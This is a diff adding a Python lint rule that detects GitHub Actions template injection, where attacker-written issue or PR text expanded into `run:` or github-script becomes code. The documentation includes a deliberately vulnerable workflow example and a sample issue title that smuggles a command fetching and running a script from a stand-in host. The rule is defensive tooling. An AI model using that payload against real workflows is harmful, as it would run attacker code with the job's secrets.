@@ -1,0 +1,134 @@
+"""Attacker-controlled text expanded into a script (template injection).
+
+## What it does
+Finds `${{ … }}` expressions whose value can carry text an attacker chose
+(issue, pull request, comment, review and discussion text, head branch
+names, commit messages and authors, wiki page names, the `workflow_run`
+head branch, and values carried from them through `env:`, `matrix`, step
+outputs and job outputs) where the runner pastes them into code:
+
+- `run:` in every shell, in workflow jobs and in composite actions
+  (`action.yml`);
+- the `script:` input of `actions/github-script`.
+
+The taint model (see `sentra_lint.workflow.taint`) works on the parsed
+expression: `${{ github.event.issue.number }}`, comparisons, `contains()`
+and `cond && 'x' || ''` are not reported; a field that no trigger of the
+workflow sends is not reported. By default only high-confidence sources
+(free text any GitHub user can write) are reported; the option
+`min-confidence: medium` adds `workflow_dispatch` inputs and
+`repository_dispatch` payloads, `low` adds caller inputs of reusable
+workflows and composite actions, label names and unknown event fields.
+
+A malformed expression in a sink (`${{ unclosed`, `${{ a b }}`) is
+reported by this rule as malformed, with the parser's reason: GitHub
+rejects such a workflow, and what it would expand to cannot be known.
+
+## Why is this bad?
+The runner substitutes expressions into the script text before the shell
+(or Node.js) reads it. An issue titled `a"; curl evil.sh | sh; echo "` then
+becomes shell code running with the job's token and secrets.
+
+## Example
+```yaml
+on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue: ${{ github.event.issue.title }}"
+```
+
+## Use instead
+```yaml
+on: issues
+jobs:
+  triage:
+    runs-on: ubuntu-latest
+    steps:
+      - env:
+          TITLE: ${{ github.event.issue.title }}
+        run: echo "New issue: $TITLE"
+```
+In `actions/github-script`, read `process.env.TITLE` or
+`context.payload.issue.title` instead of expanding the expression.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from sentra_lint.findings import Severity, Violation
+from sentra_lint.rulebase import RuleContext, RuleMeta
+from sentra_lint.rules._workflow import (
+    LocatedExpr,
+    action_path,
+    all_scopes,
+    confidence_option,
+    scalar_expressions,
+)
+from sentra_lint.workflow.model import Workflow
+from sentra_lint.workflow.taint import Confidence
+from sentra_lint.yamlmodel import ScalarNode
+
+META = RuleMeta(
+    id="SW002",
+    slug="template-injection",
+    title="Attacker-controlled expression expanded into a script",
+    severity=Severity.ERROR,
+    security_severity=9.0,
+    area="workflow",
+    target="workflow",
+    precision="high",
+    options={
+        "min-confidence": {
+            "type": "string",
+            "enum": ["high", "medium", "low"],
+            "default": "high",
+            "description": "Lowest confidence of attacker control to report.",
+        }
+    },
+)
+
+
+def _message(found: LocatedExpr, sink: str, minimum: Confidence) -> str:
+    sources = [s for s in found.taint.sources if s.confidence >= minimum]
+    names = list(dict.fromkeys(s.describe() for s in sources))
+    shown = ", ".join(f"'{n}'" for n in names[:3])
+    reason = sources[0].reason if sources else ""
+    if "github-script" in sink:
+        fix = "pass it through env: and read process.env.VAR"
+    else:
+        fix = 'pass it through env: and use "$VAR"'
+    return f"{shown} is expanded into {sink} ({reason}); {fix}"
+
+
+def _sink(
+    wf: Workflow, node: ScalarNode, sink: str, found: list[LocatedExpr], minimum: Confidence
+) -> Iterator[Violation]:
+    for item in found:
+        if item.taint.malformed:
+            reason = item.taint.error.message if item.taint.error else "cannot be parsed"
+            yield Violation(
+                item.span,
+                f"malformed expression in {sink}: {reason}; GitHub rejects it and what it "
+                "would expand to cannot be checked",
+                severity=Severity.WARNING,
+            )
+            continue
+        if item.taint.at_least(minimum).tainted:
+            yield Violation(item.span, _message(item, sink, minimum))
+
+
+def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
+    minimum = confidence_option(ctx.option("min-confidence"))
+    for scope in all_scopes(wf):
+        step = scope.step
+        if step.run is not None:
+            found = scalar_expressions(wf, step.run, scope.ctx)
+            yield from _sink(wf, step.run, "a run: script", found, minimum)
+        if action_path(step) == "actions/github-script" and step.with_ is not None:
+            script = step.with_.get("script")
+            if isinstance(script, ScalarNode) and not script.is_null:
+                found = scalar_expressions(wf, script, scope.ctx)
+                yield from _sink(wf, script, "a github-script script", found, minimum)
